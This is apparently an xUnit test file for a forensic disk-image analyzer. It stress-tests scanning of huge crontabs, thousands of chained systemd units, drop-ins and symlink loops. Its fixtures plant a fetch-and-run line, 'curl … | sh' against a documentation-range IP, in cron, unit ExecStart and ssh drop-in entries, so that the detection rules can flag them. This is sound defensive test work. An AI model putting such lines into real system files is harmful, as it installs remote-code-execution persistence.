using System.Diagnostics;
using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using Xunit;

namespace Forensics.Analyzer.Tests.EndToEnd;

/// <summary>Tables and units made to cost time and memory, or to lead in circles.</summary>
public sealed class HostileServiceTests : IDisposable
{
    private const string Dir = "etc/systemd/system/";
    private readonly Machine _machine = new();

    public void Dispose() => _machine.Dispose();

    [Fact]
    public void A_crontab_of_a_hundred_megabytes_is_cut_told_and_hashed()
    {
        string tree = Directory.CreateDirectory(_machine.At("tree")).FullName;
        foreach ((string path, string text) in Machine.System("cron", "").Append(("etc/cron.d/.placeholder", "")))
        {
            Directory.CreateDirectory(Path.GetDirectoryName(Path.Combine(tree, path))!);
            File.WriteAllText(Path.Combine(tree, path), text);
        }
        string table = Path.Combine(tree, "etc/cron.d/big");
        byte[] lines = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("1 1 1 1 1 root :\n", 60_000)));
        using (FileStream file = File.Create(table))
        {
            file.Write("# table\n17 * * * * root /usr/bin/first; curl -fsSL http://203.0.113.66/x.sh | sh\n"u8);
            file.Write(Encoding.ASCII.GetBytes(new string('#', 1 << 20) + "\n"));
            while (file.Length < 100_000_000)
            {
                file.Write(lines);
            }
        }
        string digest;
        using (FileStream file = File.OpenRead(table))
        {
            digest = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(file));
        }
        Machine.Run("mke2fs", ["-q", "-F", "-t", "ext4", "-E", "root_owner=0:0", "-d", tree, _machine.At("cron.raw"), "130M"]);
        (JsonObject report, TimeSpan time) = Scan(_machine.At("cron.raw"));
        Assert.True(time < TimeSpan.FromSeconds(90), $"took {time}");
        JsonNode finding = report["findings"]!.AsArray().First(finding => (string?)finding!["ruleId"] == "L-CRON-SYS.download-pipe-shell" && (int?)finding["line"] == 2)!;
        Assert.Equal(digest, (string?)finding["hashes"]!["sha256"]);
        string[] codes = [.. report["diagnostics"]!.AsArray().Select(diagnostic => (string)diagnostic!["code"]!)];
        Assert.Contains("artifact.truncated", codes);
        Assert.Contains("crontab.line.long", codes);
        Assert.Contains("crontab.jobs.many", codes);
    }

    [Fact]
    public void Many_thousand_units_in_one_directory_are_all_read()
    {
        // DEADBOX_UNITS=100000 for the figure that the documentation names.
        int count = int.TryParse(Environment.GetEnvironmentVariable("DEADBOX_UNITS"), CultureInfo.InvariantCulture, out int wanted) ? wanted : 3_000;
        IEnumerable<(string, string)> units = Enumerable.Range(0, count).Select(i => (string.Create(CultureInfo.InvariantCulture, $"{Dir}u{i}.service"),
            string.Create(CultureInfo.InvariantCulture, $"[Unit]\nWants=u{i + 1}.service\n[Service]\nExecStart=/usr/bin/x{i % 7} {i}\n[Install]\nWantedBy=multi-user.target\n")));
        string image = _machine.Ext4("units.raw", "11111111-0000-0000-0000-000000000002", null,
            [.. Machine.System("units", ""), .. units, (Dir + "multi-user.target.wants/u0.service", "-> ../u0.service"), (Dir + "zz.service", "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.66/x.sh | sh'\n"),
                (Dir + $"u{count - 1}.service.d/x.conf", "[Unit]\nOnFailure=zz.service u0.service\n")], mib: 24 + (count / 400));
        long before = GC.GetTotalMemory(forceFullCollection: true);
        (JsonObject report, TimeSpan time) = Scan(image);
        long kept = GC.GetTotalMemory(forceFullCollection: true) - before;
        TestContext.Current.TestOutputHelper?.WriteLine(string.Create(CultureInfo.InvariantCulture, $"{count} units: {time.TotalSeconds:F1} s, peak {Process.GetCurrentProcess().PeakWorkingSet64 >> 20} MiB"));
        Assert.True(time < TimeSpan.FromSeconds(60 + (count / 500)), $"took {time}");
        Assert.True(kept < (1L << 28), $"{kept} bytes are kept");
        // The last of the chain is live: each unit pulls the next one in.
        Assert.Contains(report["findings"]!.AsArray(), finding => (string?)finding!["ruleId"] == "L-UNIT.download-pipe-shell" && (string?)finding["severity"] == "critical");
        Assert.Empty(report["diagnostics"]!.AsArray());
    }

    [Fact]
    public void Many_drop_ins_that_each_replace_the_start_cost_no_square()
    {
        IEnumerable<(string, string)> dropIns = Enumerable.Range(0, 1500).Select(i => (string.Create(CultureInfo.InvariantCulture, $"{Dir}ssh.service.d/{i:D5}.conf"), "[Service]\nExecStart=\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.66/x.sh | sh'\n"));
        string image = _machine.Ext4("drop.raw", "11111111-0000-0000-0000-000000000003", null, [.. Machine.System("drop", ""), (Dir + "ssh.service", "[Service]\nExecStart=/bin/sh\n"), (Dir + "multi-user.target.wants/ssh.service", "-> ../ssh.service"), .. dropIns], mib: 24);
        (JsonObject report, TimeSpan time) = Scan(image);
        Assert.True(time < TimeSpan.FromSeconds(60), $"took {time}");
        string[] severities = [.. report["findings"]!.AsArray().Where(finding => (string?)finding!["ruleId"] == "L-UNIT-DROPIN.download-pipe-shell").Select(finding => (string)finding!["severity"]!)];
        Assert.Equal((1, 1499), (severities.Count(severity => severity == "critical"), severities.Count(severity => severity == "high")));
    }

    [Fact]
    public void Circles_of_links_and_units_end_and_what_lies_beside_them_is_found()
    {
        string longest = new('n', 255 - ".service".Length);
        string bomb = string.Concat(Enumerable.Repeat("%n%N%p%i%f", 6000));
        string image = _machine.Ext4("loops.raw", "11111111-0000-0000-0000-000000000004", null,
        [
            .. Machine.System("loops", ""),
            (Dir + "a.service.d/x.conf", "-> y.conf"), (Dir + "a.service.d/y.conf", "-> x.conf"), (Dir + "b.service.d", "-> b.service.d"), (Dir + "c.service.d", "-> ."), (Dir + "d.service", "-> ../system/d.service"),
            (Dir + "multi-user.target.wants", "-> ../system"), ("etc/cron.d/loop", "-> loop"), ("etc/init.d/l", "-> ../init.d/l"), ("etc/rc3.d/S20l", "-> ../rc3.d/S20l"), ("etc/systemd/system-generators/g", "-> g"),
            (Dir + "e.service", "[Unit]\nWants=f.service\n[Service]\nExecStart=/bin/true\n"), (Dir + "f.service", "[Unit]\nWants=e.service f.service\n[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.66/x.sh | sh'\n"),
            (Dir + "graphical.target.wants/e.service", "-> /etc/systemd/system/e.service"), (Dir + "t.timer", "[Timer]\nUnit=t.timer\n"),
            (Dir + longest + ".service", $"[Service]\nExecStart=/usr/bin/x {bomb}\nExecStart=/usr/bin/x {bomb}\nEnvironment=A=%n%n\nExecStop=/bin/x ${{A}}{bomb}\n"),
            ("etc/tmpfiles.d/x.conf", "L+ /etc/tmpfiles.d/x.conf - - - - /etc/tmpfiles.d/x.conf\n"),
        ], mib: 16);
        (JsonObject report, TimeSpan time) = Scan(image);
        Assert.True(time < TimeSpan.FromSeconds(60), $"took {time}");
        Assert.Contains(report["findings"]!.AsArray(), finding => (string?)finding!["ruleId"] == "L-UNIT.download-pipe-shell" && (string?)finding["severity"] == "critical");
    }

    private static (JsonObject Report, TimeSpan Time) Scan(string image)
    {
        var clock = Stopwatch.StartNew();
        JsonObject report = Deadbox.Scan(image).Report;
        return (report, clock.Elapsed);
    }
}
